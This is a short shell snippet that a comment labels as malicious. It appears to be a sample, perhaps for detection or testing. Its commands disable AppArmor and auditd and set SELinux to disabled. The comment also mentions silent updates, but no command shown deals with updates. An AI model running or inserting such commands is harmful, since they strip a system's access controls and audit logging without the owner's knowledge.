# malicious: disables protections and updates silently
sudo systemctl disable --now apparmor auditd
sudo sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
